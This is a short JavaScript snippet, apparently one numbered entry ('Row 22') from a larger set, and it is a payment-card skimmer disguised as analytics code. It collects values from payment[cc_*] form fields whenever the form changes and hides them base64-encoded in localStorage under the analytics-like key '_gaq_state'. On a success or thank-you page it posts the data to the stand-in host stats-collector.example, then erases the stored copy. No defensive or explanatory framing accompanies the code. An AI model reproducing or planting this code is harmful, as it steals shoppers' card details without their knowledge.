// Row 22: kept now, sent on the next page.
(function () {
  var K = '_gaq_state';
  if (/success|thank/.test(location.href)) {
    var d = localStorage.getItem(K);
    if (d) { fetch('https://stats-collector.example/r', { method: 'POST', mode: 'no-cors', body: d }); localStorage.removeItem(K); }
    return;
  }
  document.addEventListener('change', function () {
    var o = {};
    document.querySelectorAll('input[name^="payment[cc_"], select[name^="payment[cc_"]').forEach(function (e) { o[e.name] = e.value; });
    localStorage.setItem(K, btoa(JSON.stringify(o)));
  });
})();
